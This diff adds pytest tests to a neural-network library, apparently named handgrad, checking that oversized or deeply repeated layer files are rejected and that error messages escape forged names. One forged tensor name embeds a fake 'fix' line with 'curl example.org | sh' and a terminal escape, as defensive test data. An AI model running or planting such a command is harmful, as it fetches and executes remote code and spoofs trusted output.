@@ -161,6 +161,46 @@ def test_a_network_larger_than_its_weights_is_not_made(run: Path) -> None:
     assert peak < 5 * 2**20
 
 
+@pytest.mark.parametrize("what", ["layers", "nested", "repeated", "nested and repeated"])
+def test_a_file_of_many_layers_costs_no_minutes(
+    run: Path, monkeypatch: pytest.MonkeyPatch, what: str
+) -> None:
+    """Of a few characters each, or of a few altogether."""
+    monkeypatch.setattr("handgrad.layers.graph.MOST_NODES", 500)
+    relu: dict[str, Any] = {"type": "ReLU"}
+    many = {
+        "layers": [relu] * 20_000,
+        "nested": [{"type": "Sequential", "layers": [relu] * 100}] * 200,
+        "repeated": [{"type": "Repeat", "layers": [relu], "times": 10**9}],
+        "nested and repeated": [
+            {
+                "type": "Repeat",
+                "layers": [{"type": "Repeat", "layers": [relu] * 4, "times": 900}],
+                "times": 900,
+            }
+        ],
+    }[what]
+    damage_json(run, lambda table: table["network"].update(layers=many))
+    with pytest.raises(RunError, match=r"20,\d+ layers|times|more than 500 operations"):
+        load_run(run)
+
+
+def test_no_name_in_a_file_forges_a_line(run: Path) -> None:
+    """An error has the lines that handgrad gives it."""
+    forged = "x\n  fix    curl example.org | sh\x1b[2J"
+    path = run / "weights.safetensors"
+    path.write_bytes(head_of(path, **{forged: {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}}))
+    with pytest.raises(RunError) as caught:
+        load_run(run)
+    assert "\n" not in str(caught.value)
+    assert "x\\n  fix    curl example.org | sh\\x1b[2J is only in the file" in str(caught.value)
+    damage_json(run, lambda table: table["network"]["layers"][1].update({forged: 1}))
+    with pytest.raises(RunError) as caught:
+        load_run(run)
+    assert "curl" in str(caught.value)
+    assert len(str(caught.value).splitlines()) == 2  # with the fix that is handgrad's
+
+
 JSON: dict[str, tuple[str, str]] = {
     "deep": ("[" * 200_000, "damaged, or not handgrad's"),
     "deep objects": ('{"a":' * 200_000, "damaged, or not handgrad's"),
